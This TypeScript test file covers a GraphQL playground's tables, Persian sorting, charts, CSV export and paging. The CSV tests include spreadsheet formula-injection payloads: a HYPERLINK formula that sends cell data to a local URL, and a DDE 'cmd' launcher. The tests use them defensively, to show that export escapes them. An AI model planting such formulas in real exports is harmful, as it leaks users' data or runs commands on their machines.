import * as graphql from 'graphql';
import { fetchAllPages, pagingPlan, startsAtFirstPage } from '../../gateway/playground/client/connection-pages';
import { cellText, chartsOf, connectionOf, findLists, JsonValue, parseLocaleNumber, sortRows, tableOf, textDirection, toCsv } from '../../gateway/playground/client/result-data';

/**
 * The playground's result view without the page (issue #16, item 3): which lists a result holds,
 * a list as a table, sorting Persian text and numbers, the aggregate shapes a chart draws, CSV, and
 * paging a connection for its download. tests/e2e/playground-results.test.ts runs them in Chromium.
 */

const SHARED_MEMBERS: JsonValue = {
  sharedMembers: {
    pageInfo: { hasNextPage: true, endCursor: 'opaque-1' },
    nodes: [
      { fullName: 'سعید تاجیک', registries: ['LABS', 'AUDITORS'], labs: { roles: [{ position: 'CHAIR', organisation: { name: 'انجمن آزمایشگاه‌ها' } }] }, auditors: null },
      { fullName: 'محمد رضایی', registries: ['LABS', 'AUDITORS'], labs: null, auditors: { roles: [{ position: 'MEMBER', organisation: { name: 'جامعه حسابرسان' } }] } },
    ],
  },
};

describe('the lists of a result', () => {
  it('are found in reading order, a list before the lists inside its items, with their path', () => {
    const lists = findLists(SHARED_MEMBERS);
    expect(lists.map((l) => [l.path.join('.'), l.underList, l.items.length])).toEqual([
      ['sharedMembers.nodes', false, 2],
      ['sharedMembers.nodes.labs.roles', true, 1],
      ['sharedMembers.nodes.auditors.roles', true, 1],
    ]);
  });

  it('include an empty list and a list of plain values at the top, not plain values inside items', () => {
    expect(findLists({ a: [], b: { c: ['x', 'y'] } }).map((l) => l.path.join('.'))).toEqual(['a', 'b.c']);
  });

  it('know a connection by nodes beside pageInfo { hasNextPage endCursor }', () => {
    const [nodes, roles] = findLists(SHARED_MEMBERS);
    expect(connectionOf(SHARED_MEMBERS, nodes!)).toEqual({ path: ['sharedMembers'], hasNextPage: true, endCursor: 'opaque-1' });
    expect(connectionOf(SHARED_MEMBERS, roles!)).toBeNull();
    const withoutPageInfo = { labsMembers: { totalCount: 3, nodes: [{ fullName: 'a' }] } };
    expect(connectionOf(withoutPageInfo, findLists(withoutPageInfo)[0]!)).toEqual({ path: ['labsMembers'], pageInfoMissing: true });
  });
});

describe('a list as a table', () => {
  it('flattens nested fields as a.b, in the selection order, over every item', () => {
    const table = tableOf(findLists(SHARED_MEMBERS)[0]!.items);
    expect(table.columns).toEqual(['fullName', 'registries', 'labs.roles', 'auditors.roles']);
    expect(table.rows[0]).toMatchObject({ fullName: 'سعید تاجیک', 'labs.roles': [{ position: 'CHAIR', organisation: { name: 'انجمن آزمایشگاه‌ها' } }], auditors: null });
    expect(table.rows[1]).toMatchObject({ labs: null, 'auditors.roles': expect.any(Array) });
  });

  it('keeps a field that is null in the first items in its place', () => {
    const table = tableOf([
      { a: 1, date: null, z: 2 },
      { a: 3, date: { iso: '2012-09-22', jalali: '1391-07-01' }, z: 4 },
    ]);
    expect(table.columns).toEqual(['a', 'date.iso', 'date.jalali', 'z']);
  });

  it('shows lists in a cell: plain values joined by commas, objects by semicolons, their values by middle dots', () => {
    expect(cellText(['LABS', 'AUDITORS'])).toBe('LABS, AUDITORS');
    expect(
      cellText([
        { position: 'CHAIR', organisation: { name: 'انجمن' } },
        { position: 'MEMBER', organisation: null },
      ]),
    ).toBe('CHAIR · انجمن; MEMBER');
    expect(cellText(null)).toBe('');
    expect(cellText(12.5)).toBe('12.5');
    expect(cellText(false)).toBe('false');
  });

  it('makes one column of a list of plain values', () => {
    expect(tableOf(['a', 'b'])).toEqual({ columns: ['value'], rows: [{ value: 'a' }, { value: 'b' }] });
  });
});

describe('sorting', () => {
  const rows = (values: (string | number | null)[]) => values.map((v) => ({ v }));
  const sorted = (values: (string | number | null)[], direction: 'ascending' | 'descending' = 'ascending') => sortRows(rows(values), 'v', direction).map((r) => r.v);

  it('orders Persian text in Persian collation (پ after ب, ژ after ز, ک and گ before ل)', () => {
    expect(sorted(['ژاله', 'گلناز', 'آرش', 'پرویز', 'بهرام', 'زهرا', 'کاوه', 'لیلا'])).toEqual(['آرش', 'بهرام', 'پرویز', 'زهرا', 'ژاله', 'کاوه', 'گلناز', 'لیلا']);
  });

  it('orders numbers by value, also when written in Persian or Arabic-Indic digits, before text', () => {
    expect(sorted(['۱۰', 9, '۱۰۰', '٣', 'متن'])).toEqual(['٣', 9, '۱۰', '۱۰۰', 'متن']);
    expect(sorted(['۱۰', 9, '۱۰۰'], 'descending')).toEqual(['۱۰۰', '۱۰', 9]);
  });

  it('puts empty cells last in either direction and keeps equal rows in their order', () => {
    expect(sorted([null, 2, 1, null], 'ascending')).toEqual([1, 2, null, null]);
    expect(sorted([null, 2, 1], 'descending')).toEqual([2, 1, null]);
    const tied = sortRows(
      [
        { k: 1, id: 'a' },
        { k: 0, id: 'b' },
        { k: 1, id: 'c' },
      ],
      'k',
      'descending',
    );
    expect(tied.map((r) => r.id)).toEqual(['a', 'c', 'b']);
  });

  it('reads numbers written with Persian separators, and not dates or codes', () => {
    expect(parseLocaleNumber('۱٬۲۳۴')).toBe(1234);
    expect(parseLocaleNumber('۳٫۵')).toBe(3.5);
    expect(parseLocaleNumber('1,234,567')).toBe(1234567);
    expect(parseLocaleNumber('1391-07-01')).toBeNull();
    expect(parseLocaleNumber('ISAI-000011-1')).toBeNull();
  });
});

describe('text direction', () => {
  it('is that of the first strong letter', () => {
    expect(textDirection('سعید تاجیک')).toBe('rtl');
    expect(textDirection('۱۲۳ سعید')).toBe('rtl');
    expect(textDirection('ISO 17025: مواد')).toBe('ltr');
    expect(textDirection('غرفة التجارة')).toBe('rtl');
    expect(textDirection('2024')).toBe('ltr');
  });
});

describe('charts', () => {
  it('draw groups from a list of { key | label, count }, withheld counts included', () => {
    const data = {
      membersByProvince: {
        groups: [
          { key: 'فارس', count: 120 },
          { key: 'تهران', count: 340 },
          { key: 'یزد', count: null },
        ],
      },
    };
    expect(chartsOf(data)).toEqual([
      {
        path: ['membersByProvince', 'groups'],
        kind: 'groups',
        groups: [
          { label: 'فارس', count: 120 },
          { label: 'تهران', count: 340 },
          { label: 'یزد', count: null },
        ],
      },
    ]);
    expect(chartsOf({ byYear: [{ label: '1399', key: 1399, count: 5 }] })[0]).toMatchObject({ groups: [{ label: '1399', count: 5 }] });
    expect(chartsOf({ byUnion: [{ key: { union: 'نانوایان', status: 'VALID' }, count: 4 }] })[0]).toMatchObject({ groups: [{ label: 'نانوایان · VALID', count: 4 }] });
  });

  it('draw registry overlaps from a list of { registries, count }', () => {
    const data = {
      registryOverlap: [
        { registries: ['LABS'], count: 40 },
        { registries: ['LABS', 'AUDITORS'], count: 12 },
      ],
    };
    expect(chartsOf(data)).toEqual([{ path: ['registryOverlap'], kind: 'overlap', combinations: data.registryOverlap }]);
  });

  it('draw the named counts aliases make ({ labs: { totalCount }, auditors: { totalCount } })', () => {
    const data = { labs: { totalCount: 62 }, auditors: { totalCount: 61 }, engineering: { count: 74 } };
    expect(chartsOf(data)).toEqual([
      {
        path: [],
        kind: 'groups',
        groups: [
          { label: 'labs', count: 62 },
          { label: 'auditors', count: 61 },
          { label: 'engineering', count: 74 },
        ],
      },
    ]);
  });

  it('draw nothing for lists that are not counts', () => {
    expect(chartsOf(SHARED_MEMBERS)).toEqual([]);
    expect(chartsOf({ a: [{ count: 'many', key: 'x' }] })).toEqual([]);
    expect(chartsOf({ single: { totalCount: 3 } })).toEqual([]);
  });
});

describe('CSV', () => {
  it('starts with a byte order mark, ends lines with CRLF and quotes as RFC 4180 says', () => {
    const csv = toCsv(
      ['name', 'note', 'count', 'empty'],
      [
        { name: 'سعید تاجیک', note: 'a, b', count: 1234.5, empty: null },
        { name: 'say "hi"', note: 'two\nlines', count: 0, empty: undefined },
      ],
    );
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1)).toBe('name,note,count,empty\r\nسعید تاجیک,"a, b",1234.5,\r\n"say ""hi""","two\nlines",0,\r\n');
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('keeps a registry text that a spreadsheet would run as a formula a text, and numbers as they are', () => {
    const csv = toCsv(
      ['fullName', 'code', 'balance'],
      [
        { fullName: '=HYPERLINK("http://127.0.0.1:6199/?"&B2,"click")', code: '0061234508', balance: -5 },
        { fullName: '+1+1', code: '@SUM(A1)', balance: 0 },
        { fullName: '-2', code: '\tx', balance: null },
        { fullName: '\n=HYPERLINK("x")', code: '\uFF1D1+1', balance: 1 },
        { fullName: '\uFF0B1', code: '\uFF20SUM(A1)', balance: 2 },
        { fullName: '\uFF0D2', code: ' =1+1', balance: 3 },
        { fullName: "x;=cmd|' /C calc'!A0", code: 'a\t=1+1', balance: 4 },
      ],
    );
    expect(csv.slice(1).split('\r\n')).toEqual([
      'fullName,code,balance',
      `"'=HYPERLINK(""http://127.0.0.1:6199/?""&B2,""click"")",0061234508,-5`,
      "'+1+1,'@SUM(A1),0",
      `'-2,"'\tx",`,
      `"'\n=HYPERLINK(""x"")",'\uFF1D1+1,1`,
      "'\uFF0B1,'\uFF20SUM(A1),2",
      "'\uFF0D2, =1+1,3",
      `"x;=cmd|' /C calc'!A0","a\t=1+1",4`,
      '',
    ]);
  });
  it('keeps a list cell a text when its first item would be a formula: another registry names the organisations in it', () => {
    const csv = toCsv(
      ['title', 'cooperating', 'words', 'open'],
      [
        { title: 'کارگروه مشترک', cooperating: [{ name: '=HYPERLINK("http://127.0.0.1:6199/?"&A2,"x")' }, { name: 'اتاق اصناف' }], words: ['+1', 'b'], open: true },
        { title: '-', cooperating: { name: '@SUM(A1)' }, words: [], open: false },
      ],
    );
    expect(csv.slice(1).split('\r\n')).toEqual([
      'title,cooperating,words,open',
      `کارگروه مشترک,"'=HYPERLINK(""http://127.0.0.1:6199/?""&A2,""x""); اتاق اصناف","'+1, b",true`,
      "'-,'@SUM(A1),,false",
      '',
    ]);
  });
});

describe('paging a connection for its download', () => {
  const SHARED =
    'query SharedMembers($first: Int = 10, $after: String) { sharedMembers(registries: [LABS, AUDITORS], first: $first, after: $after) { pageInfo { hasNextPage endCursor } nodes { fullName } } }';

  it('is possible when the connection takes `after` from a variable, aliases and fragments followed', () => {
    expect(pagingPlan(graphql, SHARED, 'SharedMembers', ['sharedMembers'])).toEqual({ pageable: true, field: 'sharedMembers', afterVariable: 'after', firstVariable: 'first' });
    const aliased = 'query Q($cursor: String) { ...F } fragment F on Query { people: labsMembers(first: 5, after: $cursor) { nodes { fullName } } }';
    expect(pagingPlan(graphql, aliased, undefined, ['people'])).toEqual({ pageable: true, field: 'labsMembers', afterVariable: 'cursor', firstVariable: undefined });
  });

  it('is refused, saying what to change, when `after` is not a variable, and for a mutation', () => {
    const literal = pagingPlan(graphql, '{ labsMembers(first: 5) { nodes { fullName } } }', undefined, ['labsMembers']);
    expect(literal).toMatchObject({ pageable: false, field: 'labsMembers' });
    expect(literal.pageable === false && literal.reason).toMatch(/declare `\$after: String`.*`after: \$after`.* to labsMembers/);
    const mutation = pagingPlan(graphql, 'mutation M($after: String) { x(after: $after) { nodes { a } } }', 'M', ['x']);
    expect(mutation).toMatchObject({ pageable: false, reason: expect.stringMatching(/Only a query/) });
    expect(pagingPlan(graphql, '{ a', undefined, ['a'])).toMatchObject({ pageable: false, reason: expect.stringMatching(/does not parse/) });
  });

  /** A server of `total` items in pages of `size`, its cursors opaque strings; records the variables it was sent. */
  function pagedServer(total: number, size: number) {
    const sent: Record<string, unknown>[] = [];
    const run = async (variables: Record<string, unknown>) => {
      sent.push(variables);
      const start = typeof variables.after === 'string' && variables.after ? Number(Buffer.from(variables.after, 'base64').toString()) : 0;
      const nodes = Array.from({ length: Math.min(size, total - start) }, (_, i) => ({ n: start + i }));
      const end = start + nodes.length;
      return { data: { sharedMembers: { pageInfo: { hasNextPage: end < total, endCursor: Buffer.from(String(end)).toString('base64') }, nodes } } };
    };
    return { run, sent };
  }

  it('follows endCursor from the first page to the last, reusing the page shown when it is the first', async () => {
    const plan = pagingPlan(graphql, SHARED, 'SharedMembers', ['sharedMembers']);
    if (!plan.pageable) throw new Error(plan.reason);
    const server = pagedServer(62, 5);
    const progress: number[] = [];
    const firstPage = await server.run({ first: 5 });
    const all = await fetchAllPages({ run: server.run, variables: { first: 5 }, plan, connectionPath: ['sharedMembers'], firstPage, onPage: (p) => progress.push(p.rows) });
    expect(all.pages).toBe(13);
    expect(all.items.map((item) => (item as { n: number }).n)).toEqual(Array.from({ length: 62 }, (_, i) => i));
    expect(server.sent).toHaveLength(13);
    expect(server.sent[1]).toEqual({ first: 5, after: Buffer.from('5').toString('base64') });
    expect(progress.at(-1)).toBe(62);
    expect(startsAtFirstPage({ first: 5 }, plan)).toBe(true);
    expect(startsAtFirstPage({ first: 5, after: 'x' }, plan)).toBe(false);
  });

  it('starts again from the first page when the page shown was not, and stops on an error or a cursor seen before', async () => {
    const plan = pagingPlan(graphql, SHARED, 'SharedMembers', ['sharedMembers']);
    if (!plan.pageable) throw new Error(plan.reason);
    const server = pagedServer(12, 5);
    const all = await fetchAllPages({ run: server.run, variables: { first: 5, after: 'Nw==' }, plan, connectionPath: ['sharedMembers'] });
    expect(all.items).toHaveLength(12);
    expect(server.sent[0]).toEqual({ first: 5, after: null });

    const failing = async () => ({ errors: [{ message: 'Labs cannot be reached' }] });
    await expect(fetchAllPages({ run: failing, plan, connectionPath: ['sharedMembers'] })).rejects.toThrow(/Page 1 came back with errors.*Labs cannot be reached/);
    const stuck = async () => ({ data: { sharedMembers: { pageInfo: { hasNextPage: true, endCursor: 'same' }, nodes: [{ n: 1 }] } } });
    await expect(fetchAllPages({ run: stuck, plan, connectionPath: ['sharedMembers'] })).rejects.toThrow(/Page 2 says more follow but gives no new endCursor/);
    let asked = 0;
    await expect(fetchAllPages({ run: server.run, plan, connectionPath: ['sharedMembers'], cancelled: () => ++asked > 1 })).rejects.toThrow(/cancelled/);
  });
});
